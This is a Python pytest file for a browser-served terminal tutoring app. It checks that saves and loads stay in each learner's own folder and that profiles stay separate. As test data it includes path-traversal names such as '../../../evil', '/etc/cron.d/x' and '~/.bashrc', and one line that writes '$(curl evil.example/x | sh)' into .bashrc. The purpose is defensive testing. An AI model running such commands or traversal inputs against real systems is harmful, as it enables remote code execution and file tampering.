"""In a served tab, the browser can never name a file on the server (issue 16 finding 1).

ctrl+s used to take any path (a `~/.bashrc` with a `$(...)` typed into a simulated file meant code
execution on the server), ctrl+o read any file. Served, the sandbox saves under a plain name in the
learner's own folder or as a browser download, and loads only from that folder. Locally, saving over a
file asks first. Each served tab is its own learner (issue 11: tabs shared one progress profile).
"""

from __future__ import annotations

import asyncio
import json
import os
import sys

import pytest

from tests.security.serving import Tab, connect, running_serve
from tests.ui.conftest import run_command
from tutor.ui.worlds import saved_worlds, session_file, session_folder

HOSTILE_NAMES = ["../../../evil", "/etc/cron.d/x", "~/.bashrc", "..", ".hidden", "a/b", "a\\b", "x" * 61, "",
                 "con:", "a\x00b", "ok\nx", "../" + "x"]


@pytest.fixture(autouse=True)
def _no_real_data(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg-data"))
    monkeypatch.setenv("REGISTRY_TUTOR_DATA", str(tmp_path / "data"))


def _make(tmp_path, served: bool):
    from tutor.ui.app import TutorApp

    return TutorApp(lessons=[], progress_root=tmp_path / "progress", worlds_dir=tmp_path / "worlds", served=served)


def _files_under(root):
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


async def _name_learner(pilot, name: str) -> None:
    from tutor.ui.screens.learner import LearnerNameScreen

    assert isinstance(pilot.app.screen, LearnerNameScreen)
    pilot.app.screen.query_one("#learner").value = name
    await pilot.press("enter")
    await pilot.pause()


async def _open_sandbox(pilot):
    from tutor.ui.screens.sandbox import SandboxScreen

    await pilot.press("s")
    await pilot.pause()
    assert isinstance(pilot.app.screen, SandboxScreen)
    return pilot.app.screen


# --- names and folders ------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_session_file_refuses_anything_but_a_plain_name(tmp_path, name):
    with pytest.raises(ValueError):
        session_file(tmp_path, name)


def test_session_file_keeps_plain_names_in_the_folder(tmp_path):
    assert session_file(tmp_path, "week-1.v2") == tmp_path / "week-1.v2.json"
    assert session_file(tmp_path, "sandbox.json") == tmp_path / "sandbox.json"


def test_a_symlink_planted_in_the_folder_is_neither_listed_nor_followed(tmp_path):
    outside = tmp_path / "outside.json"
    outside.write_text("{}")
    folder = tmp_path / "worlds"
    folder.mkdir()
    (folder / "link.json").symlink_to(outside)
    (folder / "real.json").write_text("{}")
    assert saved_worlds(folder) == ["real.json"]
    with pytest.raises(ValueError):
        session_file(folder, "link")


def test_the_session_folder_is_per_learner(tmp_path):
    assert session_folder("Ada", tmp_path) == tmp_path / "Ada" / "worlds"
    with pytest.raises(ValueError):
        session_folder("../Ada", tmp_path)


@pytest.mark.parametrize(
    ("typed", "prefix", "profile"),
    [("Ada Lovelace", None, "Ada-Lovelace"), ("  bob  ", "default", "bob"), ("Ada", "ws1", "ws1-Ada"),
     ("../../etc/passwd", None, "etcpasswd"), ("Zoë", None, "Zo"), ("x" * 100, None, "x" * 64)],
)
def test_a_learner_name_becomes_a_safe_profile(typed, prefix, profile):
    from tutor.ui.screens.learner import profile_for

    assert profile_for(typed, prefix) == profile


@pytest.mark.parametrize("typed", ["", "   ", "$$$", "../..", "\U0001f642"])
def test_a_name_with_no_letters_is_asked_again(typed):
    from tutor.ui.screens.learner import profile_for

    with pytest.raises(ValueError):
        profile_for(typed)


# --- the served app ---------------------------------------------------------------------------


async def test_each_served_tab_asks_who_is_learning_and_keeps_progress_apart(tmp_path):
    from tutor.lessons.progress import ProgressStore

    for name in ("Ada", "Bob"):
        app = _make(tmp_path, served=True)
        async with app.run_test(size=(100, 34)) as pilot:
            await pilot.pause()
            assert app.progress is None  # nothing recorded before the learner is named
            await _name_learner(pilot, "$$$")
            assert "Type your name" in str(pilot.app.screen.query_one("#dialog-error").render())
            await _name_learner(pilot, name)
            assert app.profile_name == name
            if name == "Ada":
                app.progress.record_started("the-library")
    root = tmp_path / "progress"
    assert ProgressStore("Ada", root=root).status("the-library") != "new"
    assert ProgressStore("Bob", root=root).status("the-library") == "new"


async def test_served_save_takes_a_plain_name_and_stays_in_the_learners_folder(tmp_path):
    from tutor.ui.screens.confirm import ConfirmScreen
    from tutor.ui.screens.world_file import ServedSaveScreen

    app = _make(tmp_path, served=True)
    async with app.run_test(size=(100, 34)) as pilot:
        await pilot.pause()
        await _name_learner(pilot, "Ada")
        await _open_sandbox(pilot)
        await run_command(pilot, "echo '$(curl evil.example/x | sh)' > ~/.bashrc")
        for name in HOSTILE_NAMES[:8]:
            await pilot.press("ctrl+s")
            await pilot.pause()
            dialog = pilot.app.screen
            assert isinstance(dialog, ServedSaveScreen)
            dialog.query_one("#name").value = name
            await pilot.press("enter")
            await pilot.pause()
            assert pilot.app.screen is dialog  # refused, the dialog says why
            assert "plain name" in str(dialog.query_one("#dialog-error").render())
            await pilot.press("escape")
            await pilot.pause()
        assert _files_under(tmp_path) == []
        await pilot.press("ctrl+s")
        await pilot.pause()
        pilot.app.screen.query_one("#name").value = "week1"
        await pilot.press("enter")
        await pilot.pause()
        assert _files_under(tmp_path) == ["worlds/served/Ada/worlds/week1.json"]
        # the same name again: asked, and "no" keeps the first
        first = (tmp_path / "worlds/served/Ada/worlds/week1.json").read_text()
        await run_command(pilot, "docker build -t myapp1 ~/myapp1")
        await pilot.press("ctrl+s")
        await pilot.pause()
        pilot.app.screen.query_one("#name").value = "week1"
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(pilot.app.screen, ConfirmScreen)
        await pilot.press("n")
        await pilot.pause()
        assert (tmp_path / "worlds/served/Ada/worlds/week1.json").read_text() == first


async def test_served_download_goes_through_the_browser_not_the_disk(tmp_path, monkeypatch):
    from tutor.ui.app import TutorApp

    delivered = []
    monkeypatch.setattr(TutorApp, "deliver_text", lambda self, file, **kw: delivered.append((file.read(), kw)))
    app = _make(tmp_path, served=True)
    async with app.run_test(size=(100, 34)) as pilot:
        await pilot.pause()
        await _name_learner(pilot, "Ada")
        await _open_sandbox(pilot)
        await pilot.press("ctrl+s")
        await pilot.pause()
        pilot.app.screen.query_one("#name").value = "mine"
        await pilot.click("#download")
        await pilot.pause()
    assert len(delivered) == 1
    text, options = delivered[0]
    assert json.loads(text)["format"] == 1 and options["save_filename"] == "mine.json"
    assert _files_under(tmp_path) == []


async def test_served_load_lists_only_the_learners_own_worlds(tmp_path):
    from tutor.sim.world import World
    from tutor.ui.screens.world_file import ServedLoadScreen
    from tutor.ui.worlds import save_session_world

    world = World.default("classic")
    folder = tmp_path / "worlds/served/Ada/worlds"
    save_session_world(world, folder, "saved-classic")
    save_session_world(World.default(), tmp_path / "worlds/served/Bob/worlds", "bobs")
    app = _make(tmp_path, served=True)
    async with app.run_test(size=(100, 34)) as pilot:
        await pilot.pause()
        await _name_learner(pilot, "Ada")
        screen = await _open_sandbox(pilot)
        await pilot.press("ctrl+o")
        await pilot.pause()
        dialog = pilot.app.screen
        assert isinstance(dialog, ServedLoadScreen)
        assert dialog.names == ["saved-classic.json"]  # no path to type, nobody else's worlds
        await pilot.press("enter")
        await pilot.pause()
        assert screen.world.profile == "classic"


# --- the local TUI: still saves anywhere, but never over a file without asking -------------------


async def test_local_save_over_an_existing_file_asks_first(tmp_path):
    from tutor.ui.screens.confirm import ConfirmScreen

    target = tmp_path / "mine.json"
    target.write_text("precious")
    app = _make(tmp_path, served=False)
    async with app.run_test(size=(100, 34)) as pilot:
        await _open_sandbox(pilot)
        for answer, expected in (("n", "precious"), ("y", None)):
            await pilot.press("ctrl+s")
            await pilot.pause()
            pilot.app.screen.query_one("#path").value = str(target)
            await pilot.press("enter")
            await pilot.pause()
            assert isinstance(pilot.app.screen, ConfirmScreen)
            await pilot.press(answer)
            await pilot.pause()
            if expected:
                assert target.read_text() == expected
            else:
                assert json.loads(target.read_text())["format"] == 1
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temp file left


# --- through a real server, as a browser would ----------------------------------------------------


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc; Linux only")
def test_a_browser_cannot_save_a_world_outside_its_folder(tmp_path):
    async def save_as(served, learner: str, name: str, expect: bytes) -> None:
        status, session, ws = await connect(served.ws_url() + "?width=100&height=30", served.origin)
        assert status == 101
        tab = Tab(ws)
        try:
            await tab.wait_for(b"What is your name")
            # type, wait until the screen shows it, then Enter (keys typed ahead are another issue's)
            await tab.send_keys(learner)
            await tab.wait_for(learner.encode())
            await tab.send_keys("\r")
            await tab.wait_for(b"progress is kept as")
            await tab.send_keys("s")
            await tab.wait_for(b"Sandbox: no goal")
            await tab.send_keys("\x13")  # ctrl+s
            await tab.wait_for(b"Save this world as")
            await tab.send_keys(name)
            await tab.wait_for(name.encode())
            await tab.send_keys("\r")
            await tab.wait_for(expect)
        finally:
            await ws.close()
            await session.close()

    home_before = set(os.listdir(os.path.expanduser("~")))
    with running_serve(tmp_path) as served:
        asyncio.run(save_as(served, "Eve", "../../../../tmp/evil", b"Use a plain name"))
        asyncio.run(save_as(served, "Ada", "good", b"Saved as good"))
        assert _files_under(tmp_path) == ["data/served/Ada/worlds/good.json"]
    assert not (tmp_path.parent / "evil.json").exists() and not os.path.exists("/tmp/evil.json")
    assert set(os.listdir(os.path.expanduser("~"))) - home_before == set()
